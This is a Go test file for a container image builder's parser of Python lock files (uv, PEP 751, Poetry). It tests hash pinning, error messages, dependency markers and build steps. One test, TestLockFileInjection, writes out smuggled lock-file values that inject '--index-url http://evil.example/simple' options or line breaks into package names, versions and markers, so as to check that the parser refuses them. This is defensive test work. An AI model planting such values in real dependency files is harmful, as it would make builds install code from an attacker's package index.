package recipes

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
	"github.com/imagebuild/imagebuild/graph"
)

// The fixtures in testdata/lockfiles: index/ holds the distributions they
// lock, made by make.py there; poetry/ is what Debian's poetry (Poetry
// 1.3, lock-version 2.0) wrote for its pyproject.toml against that index;
// poetry2/, uv/ and pylock/ are written by hand following Poetry 2.1's
// lock, uv's uv.lock (version 1, revision 2) and PEP 751.
const (
	hiredisSdist = "733e2456b68f3f126ddaf2cd500a33b25146c3676b97ea843665717bda0c5d43"
	armWheel     = "b9bd5222e8e9871f41bef683d53a6818a6b073217151e9dabacbcc37770e1024"
	coreWheel    = "f6a7f01dbef2e62112f0b607c0b44a4c58a73e1dc7fc5fb2d6694dc48e2df5e8"
	coreSdist    = "4b11052c467cd2b0468b47b2f9c703f793ad385ef031f29f2123cd28b2ec2317"
	devWheel     = "28f583d551531a67f066bc9f469266c464f3be8d454bb5c34fd6c7637b8e3714"
	nativeArm    = "919b0204ddef468d1734ace545b8794a494e89e8887d383ee018e2873d3ccc0f"
	nativeAMD    = "65945b018d1a12b3eab571c4e21bf5d8ff8b6da9aaf55dff74b6a3d014f122aa"
	oldWheel     = "0e7151c86915ef461ed6034bb0ba80fc39bab81a84262cc4a44e326766adef69"
)

// fixture reads testdata/lockfiles/DIR/NAME and the pyproject.toml beside
// it (nil for none).
func fixture(t *testing.T, dir, name string) ([]byte, []byte) {
	t.Helper()
	lock, err := os.ReadFile(filepath.Join("testdata", "lockfiles", dir, name))
	if err != nil {
		t.Fatal(err)
	}
	pyproject, err := os.ReadFile(filepath.Join("testdata", "lockfiles", dir, "pyproject.toml"))
	if errors.Is(err, os.ErrNotExist) {
		return lock, nil
	} else if err != nil {
		t.Fatal(err)
	}
	return lock, pyproject
}

// TestParseLockFiles reads each fixture with the default set, and with its
// groups and extras: the same distributions, with every file's hash of
// their releases (several for ibdemo-core, a wheel and an sdist, and for
// ibdemo-native, a wheel per arch; one sdist for hiredis), each under the
// marker of the paths that reach it.
func TestParseLockFiles(t *testing.T) {
	hiredis := Distribution{Name: "hiredis", Version: "2.3.2", Hashes: []string{hiredisSdist}}
	core := Distribution{Name: "ibdemo-core", Version: "1.0", Hashes: []string{coreSdist, coreWheel}}
	// Those with wheels alone are never compiled.
	arm := Distribution{Name: "ibdemo-arm", Version: "1.0", Hashes: []string{armWheel}, Marker: `platform_machine == "aarch64"`, WheelsOnly: true}
	old := Distribution{Name: "ibdemo-old", Version: "1.0", Hashes: []string{oldWheel}, Marker: `python_version < "3.10"`, WheelsOnly: true}
	dev := Distribution{Name: "ibdemo-dev", Version: "1.0", Hashes: []string{devWheel}, WheelsOnly: true}
	native := Distribution{Name: "ibdemo-native", Version: "1.0", Hashes: []string{nativeAMD, nativeArm}, Marker: `sys_platform == "linux"`, WheelsOnly: true}
	uvOld := old
	uvOld.Marker = `python_full_version < "3.10"`
	tests := []struct {
		dir, name string
		groups    []string
		want      []Distribution
	}{
		{dir: "uv", name: "uv.lock", want: []Distribution{hiredis, arm, core, uvOld}},
		{dir: "uv", name: "uv.lock", groups: []string{"dev", "native"}, want: []Distribution{hiredis, arm, core, dev, native, uvOld}},
		{dir: "pylock", name: "pylock.toml", want: []Distribution{hiredis, arm, core, old}},
		{dir: "pylock", name: "pylock.toml", groups: []string{"dev", "native"}, want: []Distribution{hiredis, arm, core, dev, native, old}},
		{dir: "poetry", name: "poetry.lock", want: []Distribution{hiredis, arm, core, old}},
		{dir: "poetry", name: "poetry.lock", groups: []string{"dev"}, want: []Distribution{hiredis, arm, core, dev, old}},
		{dir: "poetry2", name: "poetry.lock", want: []Distribution{hiredis, arm, core, old}},
		{dir: "poetry2", name: "poetry.lock", groups: []string{"dev"}, want: []Distribution{hiredis, arm, core, dev, old}},
	}
	for _, tt := range tests {
		t.Run(tt.dir+"/"+tt.name+"/"+strings.Join(tt.groups, ","), func(t *testing.T) {
			lock, pyproject := fixture(t, tt.dir, tt.name)
			got, err := ParseLockFile(tt.name, lock, pyproject, tt.groups)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(Requirements{Locked: true, Distributions: tt.want}, got); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
		})
	}
}

// TestLockFileRefusals: each refusal in one line naming what is wrong and
// what to do.
func TestLockFileRefusals(t *testing.T) {
	edit := func(dir, name string, old, new string) func(t *testing.T) ([]byte, []byte) {
		return func(t *testing.T) ([]byte, []byte) {
			lock, pyproject := fixture(t, dir, name)
			if !strings.Contains(string(lock), old) {
				t.Fatalf("%s/%s has no %q", dir, name, old)
			}
			return []byte(strings.Replace(string(lock), old, new, 1)), pyproject
		}
	}
	editProject := func(dir, name string, old, new string) func(t *testing.T) ([]byte, []byte) {
		return func(t *testing.T) ([]byte, []byte) {
			lock, pyproject := fixture(t, dir, name)
			if !strings.Contains(string(pyproject), old) {
				t.Fatalf("%s/pyproject.toml has no %q", dir, old)
			}
			return lock, []byte(strings.Replace(string(pyproject), old, new, 1))
		}
	}
	tests := []struct {
		name   string
		file   string
		read   func(t *testing.T) ([]byte, []byte)
		groups []string
		want   string
	}{
		{name: "uv: a file without a hash", file: "uv.lock", read: edit("uv", "uv.lock", `hash = "sha256:`+oldWheel+`", `, ""),
			want: "ibdemo-old 1.0: http://127.0.0.1:38751/files/ibdemo_old-1.0-py3-none-any.whl has no sha256 hash"},
		{name: "uv: a version it does not know", file: "uv.lock", read: edit("uv", "uv.lock", "version = 1\n", "version = 2\n"),
			want: "version = 2: imagebuild reads uv.lock version 1"},
		{name: "uv: a Git source", file: "uv.lock", read: edit("uv", "uv.lock", "name = \"hiredis\"\nversion = \"2.3.2\"\nsource = { registry = \"http://127.0.0.1:38751/simple\" }",
			"name = \"hiredis\"\nversion = \"2.3.2\"\nsource = { git = \"https://github.com/redis/hiredis-py?rev=v2.3.2\" }"),
			want: "hiredis 2.3.2 comes from a Git repository (https://github.com/redis/hiredis-py?rev=v2.3.2), which a release build cannot pin by hash"},
		{name: "uv: an editable dependency", file: "uv.lock", read: edit("uv", "uv.lock", "name = \"hiredis\"\nversion = \"2.3.2\"\nsource = { registry = \"http://127.0.0.1:38751/simple\" }",
			"name = \"hiredis\"\nversion = \"2.3.2\"\nsource = { editable = \"libs/hiredis\" }"),
			want: "hiredis 2.3.2 comes from an editable (libs/hiredis)"},
		{name: "uv: out of date", file: "uv.lock", read: editProject("uv", "uv.lock", `"hiredis==2.3.2",`, `"hiredis==2.3.2",
    "flask>=3",`),
			want: "out of date with pyproject.toml: pyproject.toml's dependencies has flask[]>=3, which the lock does not record; run uv lock"},
		{name: "uv: a dependency bumped", file: "uv.lock", read: editProject("uv", "uv.lock", `"hiredis==2.3.2"`, `"hiredis==3.0.0"`),
			want: "out of date with pyproject.toml"},
		{name: "uv: a dev group changed", file: "uv.lock", read: editProject("uv", "uv.lock", `dev = ["ibdemo-dev==1.0"]`, `dev = ["ibdemo-dev==1.0", "pytest"]`),
			want: "pyproject.toml's dependency group dev has pytest[], which the lock does not record"},
		{name: "uv: no pyproject.toml", file: "uv.lock", read: func(t *testing.T) ([]byte, []byte) { l, _ := fixture(t, "uv", "uv.lock"); return l, nil },
			want: "the context sends no pyproject.toml beside it"},
		{name: "uv: a group it does not define", file: "uv.lock", read: edit("uv", "uv.lock", "", ""), groups: []string{"docs"},
			want: `"docs": not a dependency group or extra the lock defines (it defines dev, native)`},
		{name: "pylock: a file without a sha256", file: "pylock.toml", read: edit("pylock", "pylock.toml", `hashes = { sha256 = "`+hiredisSdist+`" }`, `hashes = { md5 = "00" }`),
			want: "hiredis 2.3.2: hiredis-2.3.2.tar.gz has no sha256 hash"},
		{name: "pylock: a version it does not know", file: "pylock.toml", read: edit("pylock", "pylock.toml", `lock-version = "1.0"`, `lock-version = "2.0"`),
			want: `lock-version = "2.0": imagebuild reads PEP 751's lock-version 1.x`},
		{name: "pylock: a VCS source", file: "pylock.toml", read: edit("pylock", "pylock.toml", "name = \"hiredis\"\n", "name = \"hiredis\"\nvcs = { type = \"git\", url = \"https://github.com/redis/hiredis-py\", commit-id = \"abc\" }\n"),
			want: "hiredis comes from a version control system (packages.vcs)"},
		{name: "pylock: a folder source", file: "pylock.toml", read: edit("pylock", "pylock.toml", "name = \"hiredis\"\n", "name = \"hiredis\"\ndirectory = { path = \"libs/hiredis\" }\n"),
			want: "hiredis comes from a folder (packages.directory)"},
		{name: "pylock: a group it does not define", file: "pylock.toml", read: edit("pylock", "pylock.toml", "", ""), groups: []string{"docs"},
			want: `"docs": not a dependency group or extra the lock defines (it defines native, dev)`},
		{name: "poetry: a file without a sha256", file: "poetry.lock", read: edit("poetry", "poetry.lock", `hash = "sha256:`+armWheel, `hash = "md5:`+armWheel[:32]),
			want: "ibdemo-arm 1.0: ibdemo_arm-1.0-py3-none-any.whl has no sha256 hash"},
		{name: "poetry: a version it does not know", file: "poetry.lock", read: edit("poetry", "poetry.lock", `lock-version = "2.0"`, `lock-version = "1.1"`),
			want: `lock-version = "1.1": imagebuild reads lock-version 2.0 (Poetry 1.x) and 2.1 (Poetry 2)`},
		{name: "poetry: out of date", file: "poetry.lock", read: editProject("poetry", "poetry.lock", `hiredis = "2.3.2"`, `hiredis = "2.3.3"`),
			want: "out of date with pyproject.toml: its content-hash is not that of pyproject.toml's dependencies; run poetry lock"},
		{name: "poetry: a Git source", file: "poetry.lock", read: edit("poetry", "poetry.lock", "[package.source]\ntype = \"legacy\"", "[package.source]\ntype = \"git\""),
			want: "hiredis 2.3.2 comes from a git source"},
		{name: "poetry 2.1: a group it does not define", file: "poetry.lock", read: edit("poetry2", "poetry.lock", "", ""), groups: []string{"docs"},
			want: `"docs": not a dependency group or extra the lock defines (it defines dev)`},
		{name: "not a lock", file: "Pipfile.lock", read: edit("uv", "uv.lock", "", ""),
			want: "Pipfile.lock is not a lock file imagebuild reads"},
		{name: "not TOML", file: "uv.lock", read: edit("uv", "uv.lock", "version = 1\n", "version = = 1\n"),
			want: "not TOML as the format defines it: line 1"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			lock, pyproject := tt.read(t)
			_, err := ParseLockFile(tt.file, lock, pyproject, tt.groups)
			if err == nil || !strings.Contains(err.Error(), tt.want) || strings.Contains(err.Error(), "\n") {
				t.Fatalf("ParseLockFile = %v, want one line with %q", err, tt.want)
			}
		})
	}
}

// TestLockMarkers: a package's marker is the "or", over the paths that
// reach it, of the "and" of their edges' markers; cycles end; the
// comparisons on extras and groups are decided by what is chosen.
func TestLockMarkers(t *testing.T) {
	const lock = `version = 1
revision = 3
requires-python = ">=3.9"

[[package]]
name = "app"
version = "0"
source = { virtual = "." }
dependencies = [
    { name = "a", marker = "sys_platform == 'linux'" },
    { name = "b" },
    { name = "c", extra = ["fast"], marker = "python_full_version >= '3.11'" },
]

[[package]]
name = "a"
version = "1"
source = { registry = "https://pypi.org/simple" }
dependencies = [{ name = "d", marker = "platform_machine == 'x86_64'" }]
wheels = [{ url = "https://x/a-1-py3-none-any.whl", hash = "sha256:` + armWheel + `" }]

[[package]]
name = "b"
version = "1"
source = { registry = "https://pypi.org/simple" }
dependencies = [{ name = "d", marker = "platform_machine == 'aarch64'" }, { name = "a" }]
wheels = [{ url = "https://x/b-1-py3-none-any.whl", hash = "sha256:` + armWheel + `" }]

[[package]]
name = "c"
version = "1"
source = { registry = "https://pypi.org/simple" }
dependencies = [{ name = "c", marker = "os_name == 'nt'" }]
wheels = [{ url = "https://x/c-1-py3-none-any.whl", hash = "sha256:` + armWheel + `" }]

[package.optional-dependencies]
fast = [{ name = "e" }]

[[package]]
name = "d"
version = "1"
source = { registry = "https://pypi.org/simple" }
dependencies = [{ name = "b" }]
wheels = [{ url = "https://x/d-1-py3-none-any.whl", hash = "sha256:` + armWheel + `" }]

[[package]]
name = "e"
version = "1"
source = { registry = "https://pypi.org/simple" }
sdist = { url = "https://x/e-1.tar.gz", hash = "sha256:` + armWheel + `" }

[[package]]
name = "unused"
version = "1"
source = { git = "https://example.com/unused" }
`
	got, err := ParseLockFile("uv.lock", []byte(lock), []byte("[tool.uv]\n"), nil)
	if err != nil {
		t.Fatal(err)
	}
	markers := map[string]string{}
	for _, d := range got.Distributions {
		markers[d.Name] = d.Marker
	}
	want := map[string]string{
		"a": "",
		"b": "",
		"c": `python_full_version >= "3.11"`,
		"d": `platform_machine == "aarch64" or platform_machine == "x86_64"`,
		"e": `python_full_version >= "3.11"`,
	}
	if diff := cmp.Diff(want, markers); diff != "" {
		t.Errorf("markers (-want +got):\n%s", diff)
	}

	for _, tt := range []struct{ in, want string }{
		{in: `python_version >= '3.8' and (sys_platform == 'linux' or sys_platform == 'darwin')`,
			want: `(python_version >= "3.8" and sys_platform == "darwin") or (python_version >= "3.8" and sys_platform == "linux")`},
		{in: `'dev' in dependency_groups and os_name != "nt"`, want: `os_name != "nt"`},
		{in: `'docs' in dependency_groups or extra == "y"`, want: "<false>"},
		{in: `'docs' in dependency_groups or extra == "x"`, want: ""},
		{in: `'docs' not in dependency_groups`, want: ""},
		{in: `extra == 'X' and platform_machine not in 'x86_64 aarch64'`, want: `platform_machine not in "x86_64 aarch64"`},
	} {
		m, err := parseMarker(tt.in, selection{extras: []string{"x"}, groups: []string{"dev"}})
		if err != nil {
			t.Fatal(err)
		}
		got := m.String()
		if len(m) == 0 {
			got = "<false>"
		}
		if got != tt.want {
			t.Errorf("parseMarker(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
	for _, bad := range []string{`python_version >=`, `(os_name == "nt"`, `os_name == "nt" or`, `os_name = "nt"`, `"a" == 'b`} {
		if _, err := parseMarker(bad, selection{}); err == nil {
			t.Errorf("parseMarker(%q) = nil error, want one", bad)
		}
	}
}

// TestPythonLockFileGraph: with no requirements.txt, the recipe finds the
// lock file at the context's top, and its graph has a step for each
// distribution of the lock's default set, each with its hashes and
// marker, as for a requirements file locked with hashes; Groups adds the
// groups named, and a name the lock does not define is an error on Groups.
func TestPythonLockFileGraph(t *testing.T) {
	for _, dir := range []string{"uv", "pylock", "poetry", "poetry2"} {
		t.Run(dir, func(t *testing.T) {
			ctx := lockContext(t, dir)
			for _, tt := range []struct {
				groups []string
				want   []string
			}{
				{want: []string{"hiredis==2.3.2", "ibdemo-arm==1.0", "ibdemo-core==1.0", "ibdemo-old==1.0"}},
				{groups: []string{"dev"}, want: []string{"hiredis==2.3.2", "ibdemo-arm==1.0", "ibdemo-core==1.0", "ibdemo-dev==1.0", "ibdemo-old==1.0"}},
			} {
				_, ops, _ := recipeGraph(t, PythonSlim{Groups: tt.groups}, Inputs{Platform: amd64, Context: ctx})
				var got []string
				for _, e := range execs(ops) {
					args := e.Meta.Args
					if len(args) < 5 || args[2] != "install" {
						continue
					}
					line := args[3]
					got = append(got, strings.Fields(line)[0])
					if !strings.Contains(line, "--hash=sha256:") {
						t.Errorf("the step of %s fetches %q, without its hashes", args[4], line)
					}
					for name, marker := range map[string]string{"ibdemo-arm==1.0": `; platform_machine == "aarch64"`, "ibdemo-old==1.0": `_version < "3.10"`} {
						if strings.HasPrefix(line, name) && !strings.Contains(line, marker) {
							t.Errorf("the step of %s fetches %q, without its marker %s", name, line, marker)
						}
					}
				}
				slices.Sort(got)
				if diff := cmp.Diff(tt.want, got); diff != "" {
					t.Errorf("groups %v: the install steps (-want +got):\n%s", tt.groups, diff)
				}
			}
			_, err := PythonSlim{Groups: []string{"docs"}}.Image(Inputs{Platform: amd64, Context: ctx})
			var fe *graph.FieldError
			if !errors.As(err, &fe) || fe.Field != "Groups" {
				t.Errorf("Groups naming a group the lock does not define: %v, want an error on Groups", err)
			}
		})
	}
	ctx := contextWith(t, "requirements.txt", "")
	var fe *graph.FieldError
	if _, err := (PythonSlim{Groups: []string{"dev"}}).Image(Inputs{Platform: amd64, Context: ctx}); !errors.As(err, &fe) || fe.Field != "Groups" {
		t.Errorf("Groups with a requirements file: %v, want an error on Groups", err)
	}
}

// lockContext is a build context holding testdata/lockfiles/DIR's files.
func lockContext(t *testing.T, dir string) graph.Context {
	t.Helper()
	out := t.TempDir()
	if err := os.CopyFS(out, os.DirFS(filepath.Join("testdata", "lockfiles", dir))); err != nil {
		t.Fatal(err)
	}
	ctx, err := graph.LoadContext(out)
	if err != nil {
		t.Fatal(err)
	}
	return ctx
}

// TestLockFileInjection: what a lock gives a distribution (its name,
// version and marker) becomes a line of the requirements its step hands
// pip: a lock that writes a line break, an option or a comment into one
// is refused, so no step reads an index, a file or a hash the lock's
// fields did not name as such.
func TestLockFileInjection(t *testing.T) {
	lock, pyproject := fixture(t, "pylock", "pylock.toml")
	for _, tt := range []struct{ name, old, new string }{
		{name: "a line break in a name", old: `name = "hiredis"`, new: `name = "hiredis\n--index-url http://evil.example/simple\nx"`},
		{name: "an option in a version", old: `version = "2.3.2"`, new: `version = "2.3.2 --index-url=http://evil.example/simple"`},
		{name: "an option in a marker's string", old: `marker = "platform_machine == 'aarch64'"`, new: `marker = "platform_machine == ' --index-url=http://evil.example/simple'"`},
		{name: "a line break in a marker's string", old: `marker = "platform_machine == 'aarch64'"`, new: `marker = "platform_machine == 'a\n--extra-index-url http://evil.example/simple\n'"`},
		{name: "a comment in a marker's string", old: `marker = "platform_machine == 'aarch64'"`, new: `marker = "platform_machine == 'a #'"`},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if !strings.Contains(string(lock), tt.old) {
				t.Fatalf("pylock.toml has no %s", tt.old)
			}
			r, err := ParseLockFile("pylock.toml", []byte(strings.Replace(string(lock), tt.old, tt.new, 1)), pyproject, nil)
			if err == nil {
				var lines []string
				for _, d := range r.Distributions {
					lines = append(lines, d.requirement())
				}
				t.Fatalf("ParseLockFile took it: the steps' requirements are\n%s", strings.Join(lines, "\n"))
			}
			if strings.Contains(err.Error(), "\n") {
				t.Errorf("an error of more than one line: %q", err)
			}
		})
	}
}

// FuzzParseLockFile reads lock files as an attacker may write them, in
// each format: ParseLockFile does not panic and errs in one line; what it
// takes is locked, each distribution with sha256 hashes, and each
// distribution's requirement line, the one its step hands pip, reads back
// as that distribution alone.
func FuzzParseLockFile(f *testing.F) {
	for i, dir := range []string{"uv", "pylock", "poetry", "poetry2"} {
		name := map[string]string{"uv": "uv.lock", "pylock": "pylock.toml", "poetry": "poetry.lock", "poetry2": "poetry.lock"}[dir]
		lock, err := os.ReadFile(filepath.Join("testdata", "lockfiles", dir, name))
		if err != nil {
			f.Fatal(err)
		}
		pyproject, _ := os.ReadFile(filepath.Join("testdata", "lockfiles", dir, "pyproject.toml"))
		f.Add(uint8(i), lock, pyproject, "")
		f.Add(uint8(i), lock, pyproject, "dev")
	}
	f.Fuzz(func(t *testing.T, format uint8, lock, pyproject []byte, group string) {
		name := LockFiles[int(format)%len(LockFiles)]
		var groups []string
		if group != "" {
			groups = []string{group}
		}
		r, err := ParseLockFile(name, lock, pyproject, groups)
		if err != nil {
			if strings.Contains(err.Error(), "\n") {
				t.Errorf("an error of more than one line: %q", err)
			}
			return
		}
		if !r.Locked || len(r.Options) > 0 || len(r.Projects) > 0 {
			t.Errorf("ParseLockFile = %+v, want locked distributions alone", r)
		}
		for _, d := range r.Distributions {
			if len(d.Hashes) == 0 {
				t.Errorf("%s %s is locked without a hash", d.Name, d.Version)
			}
			again, err := ParseRequirements([]byte(d.requirement() + "\n"))
			if err != nil || !again.Locked || len(again.Options) > 0 || len(again.Projects) > 0 {
				t.Errorf("the requirement %q reads as %+v, %v", d.requirement(), again, err)
				continue
			}
			// A requirements file does not say which files are wheels.
			if diff := cmp.Diff([]Distribution{d}, again.Distributions, cmpopts.IgnoreFields(Distribution{}, "WheelsOnly")); diff != "" {
				t.Errorf("the requirement %q reads back (-lock +requirements):\n%s", d.requirement(), diff)
			}
		}
	})
}

// TestMarkerTooLarge: a marker whose normal form would hold more than
// maxConjunctions alternatives is refused, not computed.
func TestMarkerTooLarge(t *testing.T) {
	var ands []string
	for i := range 9 {
		ands = append(ands, fmt.Sprintf(`(os_name == "a%d" or os_name == "b%d")`, i, i))
	}
	if _, err := parseMarker(strings.Join(ands, " and "), selection{}); !errors.Is(err, errMarkerTooLarge) {
		t.Errorf("parseMarker of 2^9 alternatives: %v, want errMarkerTooLarge", err)
	}
	if _, err := parseMarker(strings.Join(ands[:8], " and "), selection{}); err != nil {
		t.Errorf("parseMarker of 2^8 alternatives: %v", err)
	}
}

// TestPoetry2ContentHash: a pyproject.toml with a [project] table gets
// Poetry 2's content-hash (its Locker._get_content_hash: project's
// requires-python, dependencies and optional-dependencies beside
// tool.poetry's keys, json.dumps(..., sort_keys=True), non-ASCII escaped),
// the value below computed so with Python 3.11's tomllib and json.
func TestPoetry2ContentHash(t *testing.T) {
	const pyproject = `[project]
name = "ibdemo-app"
version = "0.1.0"
requires-python = ">=3.9"
dependencies = ["hiredis==2.3.2", "ibdemo-core (==1.0)", "naïve-pkg>=1"]

[project.optional-dependencies]
native = ["ibdemo-native==1.0 ; sys_platform == 'linux'"]

[tool.poetry.group.dev.dependencies]
ibdemo-dev = "1.0"
pytest = { version = ">=8", markers = "python_version >= '3.10'", optional = false }
count = 3
`
	var pp map[string]any
	if err := decodeTOML([]byte(pyproject), &pp); err != nil {
		t.Fatal(err)
	}
	const want = "44a5aad6f55c917e5763b9b308e5d81836080fb91bd75dff363f0ee73c1e1ac8"
	if got := poetryContentHashes(pp); !slices.Contains(got, want) {
		t.Errorf("poetryContentHashes = %v, want Poetry 2's %s among them", got, want)
	}
}

// TestNothingCompilesNoBuildDependencies: from a lock whose distributions
// are all wheels, nothing compiles, and the builder stage installs no build
// dependencies (the packages step, the longest of a cold build, and under
// emulation far longer); one sdist in the lock, and it does.
func TestNothingCompilesNoBuildDependencies(t *testing.T) {
	wheel := `[[packages]]
name = "ibdemo-arm"
version = "1.0"
wheels = [{ name = "ibdemo_arm-1.0-py3-none-any.whl", hashes = { sha256 = "b9bd5222e8e9871f41bef683d53a6818a6b073217151e9dabacbcc37770e1024" } }]
`
	sdist := `[[packages]]
name = "hiredis"
version = "2.3.2"
sdist = { name = "hiredis-2.3.2.tar.gz", hashes = { sha256 = "733e2456b68f3f126ddaf2cd500a33b25146c3676b97ea843665717bda0c5d43" } }
`
	for _, tt := range []struct {
		name, packages string
		install        bool
	}{
		{"wheels", wheel, false},
		{"an sdist", wheel + "\n" + sdist, true},
	} {
		t.Run(tt.name, func(t *testing.T) {
			ctx := contextWith(t, "pylock.toml", "lock-version = \"1.0\"\ncreated-by = \"test\"\n\n"+tt.packages)
			for _, r := range []Recipe{PythonSlim{}, PythonAlpine{}} {
				img, err := r.Image(Inputs{Platform: amd64, Context: ctx})
				if err != nil {
					t.Fatal(err)
				}
				ops, _, _ := marshal(t, img)
				install := false
				for _, o := range ops {
					if strings.HasPrefix(o.Metadata.Description["llb.customname"], "builder: install build dependencies") {
						install = true
					}
				}
				if install != tt.install {
					t.Errorf("%s: the builder stage installs build dependencies: %v, want %v", r.Name(), install, tt.install)
				}
			}
		})
	}
}
